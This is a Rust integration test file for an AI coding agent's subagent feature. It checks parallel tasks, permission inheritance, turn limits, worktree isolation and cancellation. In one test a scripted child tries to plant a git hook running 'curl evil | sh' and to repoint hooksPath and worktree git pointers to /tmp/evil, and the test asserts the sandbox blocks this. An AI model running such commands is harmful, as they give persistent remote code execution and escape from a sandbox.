#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Subagents over ACP with the real binary: the `task` tool starts children that run side by
//! side, with their own tools and the parent's permissions, whose calls reach the editor
//! labelled with the task, and whose final report is all the parent gets back.

use larik_tests::harness::{Sandbox, git, updates_of};
use larik_tests::mock_llm::Step;
use larik_tests::tasks::{
    calls, child, one_commit_repository, result_of, result_text, start, start_showing_children, task, tool_names,
};
use serde_json::{Value, json};

#[tokio::test]
async fn parallel_tasks_run_side_by_side_with_their_own_tools_and_report_in_order() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project_path().join("alpha.txt"), "the alpha secret is 42\n").unwrap();
    let mut parent = Step::text("Let me split this up.");
    parent.response.tool_calls = vec![
        task("t1", "explore", "find alpha", "ALPHA-TASK: what is the alpha secret?"),
        task("t2", "explore", "find beta", "BETA-TASK: is there a beta file?"),
    ];
    let steps = vec![
        parent,
        // Each child's first answer waits until both children have asked (3 requests with the
        // parent's): were they run one after the other, the first would wait in vain.
        child("ALPHA-TASK", Step { after_requests: Some(3), ..Step::tool("c1", "read", json!({"path": "alpha.txt"})) }),
        child("BETA-TASK", Step { after_requests: Some(3), ..Step::text("No beta file exists.") }),
        child("ALPHA-TASK", Step::text("The alpha secret is 42 (alpha.txt:1).")),
        child("No beta file exists.", Step::text("Both answered.")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, updates) =
        agent.prompt(&session, "find both", |params| panic!("nothing here needs asking: {params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");

    let requests = mock.requests();
    assert_eq!(requests.len(), 5, "{requests:#?}");
    let parent_tools = tool_names(&requests[0]);
    assert!(parent_tools.contains(&"task".to_owned()), "{parent_tools:?}");
    let description =
        requests[0]["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "task").unwrap()["description"]
            .as_str()
            .unwrap()
            .to_owned();
    assert!(
        description.contains("- explore: ") && description.contains("- general-purpose: "),
        "the subagents are listed: {description}"
    );

    let alpha: Vec<&Value> = requests
        .iter()
        .filter(|request| request.to_string().contains("ALPHA-TASK") && !request.to_string().contains("find both"))
        .collect();
    assert_eq!(alpha.len(), 2, "the alpha child asked twice");
    let mut child_tools = tool_names(alpha[0]);
    child_tools.sort();
    // `lsp` too when this machine has a language server on PATH.
    child_tools.retain(|tool| tool != "lsp");
    assert_eq!(child_tools, ["glob", "grep", "read"], "explore has the read-only tools, and no task tool");
    assert!(alpha[0]["system"].to_string().contains("sees only that reply"), "the child is told to report");
    assert!(!alpha[0].to_string().contains("find both"), "the child sees nothing of the parent's conversation");
    assert!(result_text(&result_of(alpha[1], "c1")).contains("the alpha secret is 42"), "the child's own read ran");

    let last = requests.last().unwrap();
    assert_eq!(result_text(&result_of(last, "t1")), "The alpha secret is 42 (alpha.txt:1).");
    assert_eq!(result_text(&result_of(last, "t2")), "No beta file exists.");
    assert!(!last.to_string().contains("\"c1\""), "the child's calls stay out of the parent's context");

    let started = updates_of(&updates, "tool_call");
    let nested = started
        .iter()
        .find(|update| update["toolCallId"] == "t1/c1")
        .unwrap_or_else(|| panic!("the child's read reached the editor: {started:?}"));
    assert_eq!(nested["title"], "explore: find alpha — Read alpha.txt");
    assert!(started.iter().any(|update| update["toolCallId"] == "t1" && update["title"] == "explore: find alpha"));
    assert_spending_shown_under_each_task(&updates);

    // Each child's conversation is saved beside the parent's.
    let sessions = sandbox.home.path().join(".local/share/larik/sessions");
    let agents_dir = std::fs::read_dir(&sessions)
        .unwrap()
        .filter_map(Result::ok)
        .map(|entry| entry.path())
        .find(|path| path.is_dir() && path.to_string_lossy().ends_with("-agents"))
        .expect("a transcripts directory");
    let transcripts: Vec<String> = std::fs::read_dir(&agents_dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|entry| std::fs::read_to_string(entry.path()).unwrap())
        .collect();
    assert_eq!(transcripts.len(), 2);
    assert!(transcripts.iter().any(|text| text.contains("The alpha secret is 42")));
}

/// Each task's result in the editor ends with what its child spent (two requests for alpha, one
/// for beta, at the mock's 100 input and 42 output tokens each); the model reads the report
/// alone; the session's totals count the children's requests with the parent's.
fn assert_spending_shown_under_each_task(updates: &[Value]) {
    let shown = |id: &str| {
        let finished = updates_of(updates, "tool_call_update")
            .into_iter()
            .rfind(|update| update["toolCallId"] == id && update["status"] == "completed")
            .unwrap_or_else(|| panic!("{id} finished: {updates:?}"));
        let texts: Vec<String> = finished["content"]
            .as_array()
            .unwrap()
            .iter()
            .map(|block| block["content"]["text"].as_str().unwrap().to_owned())
            .collect();
        texts
    };
    let alpha = shown("t1");
    assert_eq!(alpha[0], "The alpha secret is 42 (alpha.txt:1).");
    assert!(
        alpha[1]
            .starts_with("The subagent spent 284 tokens (200 input, 0 read from cache, 0 written to cache, 84 output)"),
        "{alpha:?}"
    );
    assert!(shown("t2")[1].starts_with("The subagent spent 142 tokens (100 input,"), "{:?}", shown("t2"));
    let last = updates_of(updates, "usage_update").pop().expect("a usage update");
    assert_eq!(last["_meta"]["larik"]["spent"]["inputTokens"], 500, "the children's requests count: {last}");
}

#[tokio::test]
async fn a_childs_call_is_checked_with_the_parents_permissions() {
    let sandbox = Sandbox::new();
    let parent = calls(vec![task("t1", "general-purpose", "write notes", "NOTES-TASK: write notes.txt")]);
    let steps = vec![
        parent,
        child("NOTES-TASK", Step::tool("c1", "write", json!({"path": "notes.txt", "content": "notes\n"}))),
        child("NOTES-TASK", Step::text("I could not write notes.txt: the user refused.")),
        Step::text("The subagent was refused."),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let mut asked = Vec::new();
    let (response, _) = agent
        .prompt(&session, "take notes", |params| {
            asked.push(params["toolCall"].clone());
            "reject_once"
        })
        .await;
    assert_eq!(response["result"]["stopReason"], "end_turn");
    assert_eq!(asked.len(), 1, "the child's write asked, labelled: {asked:?}");
    assert_eq!(asked[0]["toolCallId"], "t1/c1");
    assert!(asked[0]["title"].as_str().unwrap().starts_with("general-purpose: write notes — "), "{}", asked[0]);
    assert!(!sandbox.project_path().join("notes.txt").exists(), "the refused write did not happen");
    let requests = mock.requests();
    assert!(result_of(&requests[2], "c1")["is_error"].as_bool().unwrap_or(false), "the child heard the refusal");
    assert_eq!(result_text(&result_of(&requests[3], "t1")), "I could not write notes.txt: the user refused.");
}

#[tokio::test]
async fn a_looping_child_and_one_over_its_turn_limit_are_stopped_and_reported() {
    let sandbox = Sandbox::new();
    std::fs::write(sandbox.project_path().join("same.txt"), "unchanging\n").unwrap();
    // A project definition from Claude Code's folder, with a turn limit.
    let agents = sandbox.project_path().join(".claude/agents");
    std::fs::create_dir_all(&agents).unwrap();
    std::fs::write(
        agents.join("short.md"),
        "---\nname: short\ndescription: Gives up quickly.\ntools: Read, Grep\nmaxTurns: 2\n---\nYou are brief.\n",
    )
    .unwrap();
    let parent = calls(vec![
        task("t1", "explore", "loop", "LOOP-TASK: search same.txt"),
        task("t2", "short", "two turns", "SHORT-TASK: search same.txt"),
    ]);
    let mut steps = vec![parent];
    // The same search, with the same result, turn after turn.
    steps.extend(
        (1..=4)
            .map(|turn| child("LOOP-TASK", Step::tool(&format!("l{turn}"), "grep", json!({"pattern": "unchanging"})))),
    );
    steps.extend((1..=2).map(|turn| {
        child("SHORT-TASK", Step::tool(&format!("s{turn}"), "grep", json!({"pattern": format!("nothing-{turn}")})))
    }));
    // The parent's last request (its history names both tasks).
    steps.push(child("LOOP-TASK", Step::text("Both stopped.")));
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "go", |params| panic!("nothing here needs asking: {params}")).await;
    let requests = mock.requests();
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let last = requests.last().unwrap();
    let looped = result_of(last, "t1");
    assert_eq!(looped["is_error"], true);
    assert!(result_text(&looped).contains("kept making the same calls with the same results"), "{looped}");
    assert!(result_text(&looped).contains("Check what it changed"), "{looped}");
    let limited = result_of(last, "t2");
    assert_eq!(limited["is_error"], true);
    assert!(result_text(&limited).contains("limit of 2 model requests"), "{limited}");
    let short_requests = requests
        .iter()
        .filter(|request| request.to_string().contains("SHORT-TASK") && !request.to_string().contains("LOOP-TASK"))
        .count();
    assert_eq!(short_requests, 2, "the definition's maxTurns held");
}

#[tokio::test]
async fn a_task_in_a_worktree_commits_on_its_branch_and_cannot_touch_the_repositorys_hooks() {
    let sandbox = Sandbox::new();
    let root = sandbox.project_path();
    one_commit_repository(&root);
    let hooks = root.join(".git/hooks");
    let mut parent =
        calls(vec![task("t1", "general-purpose", "add a feature", "TREE-TASK: add feature.py and commit it")]);
    parent.response.tool_calls[0].input["isolation"] = json!("worktree");
    let escape = format!("echo 'curl evil | sh' > {}/pre-commit", hooks.display());
    let steps = vec![
        parent,
        child(
            "TREE-TASK",
            Step::tool(
                "c1",
                "bash",
                json!({"command": "echo 'print(1)' > feature.py && git -c user.name=Kid -c user.email=kid@example.com add feature.py && git -c user.name=Kid -c user.email=kid@example.com commit -qm 'Add feature' && git log --format=%s -1"}),
            ),
        ),
        child("TREE-TASK", Step::tool("c2", "bash", json!({"command": escape}))),
        // Aim git somewhere else through the worktree's own git directory or the shared config.
        child(
            "TREE-TASK",
            Step::tool(
                "c2b",
                "bash",
                json!({"command": "git config core.hooksPath /tmp/evil-hooks; echo /tmp/evil > \"$(git rev-parse --git-dir)/commondir\"; echo /tmp/evil > \"$(git rev-parse --git-dir)/gitdir\"; true"}),
            ),
        ),
        child("TREE-TASK", Step::tool("c3", "write", json!({"path": "notes.txt", "content": "left over\n"}))),
        child("TREE-TASK", Step::text("Added feature.py.")),
        child("Added feature.py.", Step::text("done")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "build it", |_| "allow_once").await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let requests = mock.requests();
    let committed = result_text(&result_of(&requests[2], "c1"));
    assert!(committed.contains("Add feature"), "a commit in the worktree works: {committed}");
    let escaped = result_text(&result_of(&requests[3], "c2"));
    assert!(requests[4].to_string().contains("c2b"));
    assert!(
        escaped.contains("[sandbox]") || escaped.contains("Read-only file system"),
        "refused by the sandbox: {escaped}"
    );
    assert!(!hooks.join("pre-commit").exists(), "the repository's hooks stay as they were: {escaped}");
    assert!(
        !std::fs::read_to_string(root.join(".git/config")).unwrap().contains("hooksPath"),
        "the shared config stays as it was"
    );
    for pointer in std::fs::read_dir(root.join(".git/worktrees"))
        .unwrap()
        .filter_map(Result::ok)
        .flat_map(|dir| ["commondir", "gitdir"].map(|name| dir.path().join(name)))
    {
        assert!(
            !std::fs::read_to_string(&pointer).unwrap().contains("/tmp/evil"),
            "{} stays as it was",
            pointer.display()
        );
    }
    let report = result_text(&result_of(requests.last().unwrap(), "t1"));
    assert!(report.starts_with("Added feature.py."), "{report}");
    no_language_server_tools_in_a_worktree(&requests[0], &requests[1]);
    let branch = report
        .split('`')
        .find(|part| part.starts_with("larik/task-"))
        .unwrap_or_else(|| panic!("the branch is named: {report}"))
        .to_owned();
    assert!(report.contains("2 commit(s)") && report.contains(&format!("git merge {branch}")), "{report}");
    let log = git(&root, &["log", "--format=%s", &branch]);
    assert_eq!(
        log.lines().collect::<Vec<_>>(),
        ["Changes left by the subagent `general-purpose: add a feature`", "Add feature", "first"],
        "its commit and the leftovers, on its branch"
    );
    assert!(!root.join("feature.py").exists() && !root.join("notes.txt").exists(), "the user's checkout is untouched");
    assert_eq!(git(&root, &["status", "--porcelain"]), "");
}

#[tokio::test]
async fn a_mode_switch_in_the_parent_reaches_a_running_child() {
    let sandbox = Sandbox::new();
    let parent = calls(vec![task("t1", "general-purpose", "write two files", "TWO-FILES: write a.txt then b.txt")]);
    let steps = vec![
        parent,
        child("TWO-FILES", Step::tool("c1", "write", json!({"path": "a.txt", "content": "a\n"}))),
        child("TWO-FILES", Step::tool("c2", "write", json!({"path": "b.txt", "content": "b\n"}))),
        child("TWO-FILES", Step::text("Wrote both.")),
        child("Wrote both.", Step::text("done")),
    ];
    let (_mock, mut agent, session) = start(&sandbox, steps).await;
    let id = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "write them"}]}))
        .await;
    let mut asked = Vec::new();
    loop {
        let message = agent.next().await;
        if message["id"] == id && message.get("method").is_none() {
            assert_eq!(message["result"]["stopReason"], "end_turn", "{message}");
            break;
        }
        if message["method"] == "session/request_permission" {
            asked.push(message["params"]["toolCall"]["toolCallId"].clone());
            // While the child waits on its first write, the user switches the session's mode.
            agent.request("session/set_mode", json!({"sessionId": session, "modeId": "accept-edits"})).await;
            agent.reply(&message, json!({"outcome": {"outcome": "selected", "optionId": "allow_once"}})).await;
        }
    }
    assert_eq!(asked, [json!("t1/c1")], "the second write ran in the new mode without asking");
    assert!(sandbox.project_path().join("b.txt").exists());
}

#[tokio::test]
async fn roles_in_settings_choose_each_childs_model_and_context_and_a_change_applies_without_a_restart() {
    let sandbox = Sandbox::new();
    let home = sandbox.home.path();
    std::fs::create_dir_all(home.join(".claude")).unwrap();
    std::fs::write(home.join(".claude/CLAUDE.md"), "USER-RULE: answer tersely.\n").unwrap();
    std::fs::write(sandbox.project_path().join("AGENTS.md"), "PROJECT-RULE: run make check.\n").unwrap();
    let settings = home.join(".config/larik/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    // Claude Code's alias for the explore role; the worker role keeps the parent's model but a
    // smaller context.
    std::fs::write(&settings, r#"{"roles": {"explore": "haiku", "worker": {"context": "minimal"}}}"#).unwrap();
    let mut general = task("t2", "general-purpose", "tidy up", "WORKER-S: tidy up");
    general.input["model"] = json!("worker");
    let steps = vec![
        calls(vec![task("t1", "explore", "find alpha", "EXPLORE-S: find alpha"), general]),
        child("EXPLORE-S", Step::text("alpha is in a.txt")),
        child("WORKER-S", Step::text("tidied")),
        child("tidied", Step::text("Both done.")),
        Step::text("Noted."),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "go", |params| panic!("nothing to ask: {params}")).await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let requests = mock.requests();
    let task_spec = |request: &Value| {
        request["tools"].as_array().unwrap().iter().find(|tool| tool["name"] == "task").unwrap().clone()
    };
    let offered = task_spec(&requests[0]);
    assert!(offered["input_schema"]["properties"].get("model").is_some(), "a role has a model: {offered}");
    assert!(offered["description"].as_str().unwrap().contains("- explore: haiku"), "{offered}");
    assert!(requests[0]["system"].to_string().contains("USER-RULE"), "the user's CLAUDE.md is read");

    let explore = requests
        .iter()
        .find(|request| request.to_string().contains("EXPLORE-S") && !request.to_string().contains("\"go\""))
        .unwrap();
    assert_eq!(explore["model"], "claude-haiku-4-5", "the role's alias, on Anthropic");
    let system = explore["system"].to_string();
    assert!(system.contains("USER-RULE") && system.contains("PROJECT-RULE"), "the full context: {system}");
    let worker = requests
        .iter()
        .find(|request| request.to_string().contains("WORKER-S") && !request.to_string().contains("\"go\""))
        .unwrap();
    assert_eq!(worker["model"], "claude-mock", "a role without a model inherits the parent's");
    let system = worker["system"].to_string();
    assert!(system.contains("PROJECT-RULE") && !system.contains("USER-RULE"), "the minimal context: {system}");
    assert_eq!(
        requests.iter().filter(|request| request["model"] == "claude-mock").count(),
        3,
        "the parent's two and the worker's"
    );

    // No role has a model any more: the next request offers no `model` input.
    std::fs::write(&settings, r#"{"roles": {"worker": {"context": "minimal"}}}"#).unwrap();
    agent.prompt(&session, "anything else?", |params| panic!("nothing to ask: {params}")).await;
    let last = mock.requests().last().unwrap().clone();
    let offered = task_spec(&last);
    assert!(offered["input_schema"]["properties"].get("model").is_none(), "{offered}");
    assert!(!offered["description"].as_str().unwrap().contains("Roles for"), "{offered}");
}

/// The session's language servers index the parent's directory: a worktree child has no `lsp`
/// nor `apply_code_action`, while its parent has both.
fn no_language_server_tools_in_a_worktree(parent: &Value, child: &Value) {
    let (parent_tools, child_tools) = (tool_names(parent), tool_names(child));
    for name in ["lsp", "apply_code_action"] {
        assert!(parent_tools.iter().any(|tool| tool == name), "the parent lacks {name}: {parent_tools:?}");
        assert!(!child_tools.iter().any(|tool| tool == name), "a worktree child has {name}: {child_tools:?}");
    }
}

#[tokio::test]
async fn a_worktree_task_outside_a_git_repository_works_in_place_and_says_so() {
    let sandbox = Sandbox::new();
    let mut parent = calls(vec![task("t1", "general-purpose", "tidy", "IN-PLACE-TASK: write a note")]);
    parent.response.tool_calls[0].input["isolation"] = json!("worktree");
    let steps = vec![
        parent,
        child("IN-PLACE-TASK", Step::tool("c1", "write", json!({"path": "note.txt", "content": "here\n"}))),
        child("IN-PLACE-TASK", Step::text("Wrote note.txt.")),
        child("Wrote note.txt.", Step::text("done")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let (response, _) = agent.prompt(&session, "tidy", |_| "allow_once").await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    let report = result_text(&result_of(mock.requests().last().unwrap(), "t1"));
    assert!(
        report.contains("The subagent worked in this checkout, not a worktree: this is not a git repository"),
        "{report}"
    );
    assert_eq!(std::fs::read_to_string(sandbox.project_path().join("note.txt")).unwrap(), "here\n");
}

/// A worktree child's project is its worktree: a write to the checkout it came from is outside
/// it, and is refused outright as every write outside the project is (it does not ask). The
/// reference says why.
#[tokio::test]
async fn a_worktree_child_cannot_write_to_the_checkout_it_came_from() {
    let sandbox = Sandbox::new();
    let root = sandbox.project_path();
    one_commit_repository(&root);
    let mut parent = calls(vec![task("t1", "general-purpose", "tidy", "ESCAPE-TASK: edit the main checkout")]);
    parent.response.tool_calls[0].input["isolation"] = json!("worktree");
    let outside = root.join("escaped.txt").display().to_string();
    let steps = vec![
        parent,
        child("ESCAPE-TASK", Step::tool("c1", "write", json!({"path": outside, "content": "escaped\n"}))),
        child("ESCAPE-TASK", Step::tool("c2", "write", json!({"path": "inside.txt", "content": "inside\n"}))),
        child("ESCAPE-TASK", Step::text("Tried both.")),
        child("Tried both.", Step::text("done")),
    ];
    let (mock, mut agent, session) = start(&sandbox, steps).await;
    let mut asked = Vec::new();
    let (response, _) = agent
        .prompt(&session, "tidy", |params| {
            asked.push(params["toolCall"]["toolCallId"].as_str().unwrap_or_default().to_owned());
            "allow_once"
        })
        .await;
    assert_eq!(response["result"]["stopReason"], "end_turn", "{response}");
    assert!(!asked.contains(&"c1".to_owned()), "the write outside was not asked about: {asked:?}");
    let requests = mock.requests();
    let refused = result_text(&result_of(&requests[2], "c1"));
    assert!(refused.contains("is outside the project"), "{refused}");
    assert!(!root.join("escaped.txt").exists(), "the parent's checkout is untouched");
    let wrote = result_text(&result_of(&requests[3], "c2"));
    assert!(!wrote.contains("outside"), "a write inside the worktree works: {wrote}");
    assert!(!root.join("inside.txt").exists(), "it landed in the worktree, not the checkout");
}

#[tokio::test]
async fn cancelling_the_prompt_request_withdraws_a_childs_open_question() {
    let sandbox = Sandbox::new();
    let steps = vec![
        calls(vec![task("t1", "general-purpose", "write notes", "NOTES: write notes.txt")]),
        child("NOTES", Step::tool("c1", "write", json!({"path": "notes.txt", "content": "noted\n"}))),
    ];
    // Shown as a child session, the child's events go out through a forwarder of their own.
    let (_mock, mut agent, session) = start_showing_children(&sandbox, steps).await;
    let prompt = agent
        .request("session/prompt", json!({"sessionId": session, "prompt": [{"type": "text", "text": "take notes"}]}))
        .await;
    let question = agent.next_with_method("session/request_permission").await;
    assert_ne!(question["params"]["sessionId"], session.as_str(), "the child asks: {question}");
    agent.notify("$/cancel_request", json!({"requestId": prompt})).await;
    let (response, mut seen) = agent.response(prompt).await;
    assert_eq!(response["result"]["stopReason"], "cancelled", "{response}");
    let withdrawn = agent.seen_or_next_with_method(&mut seen, "$/cancel_request").await;
    assert_eq!(withdrawn["params"]["requestId"], question["id"], "{withdrawn}");
    assert!(!sandbox.project_path().join("notes.txt").exists(), "the child's write did not run");
}
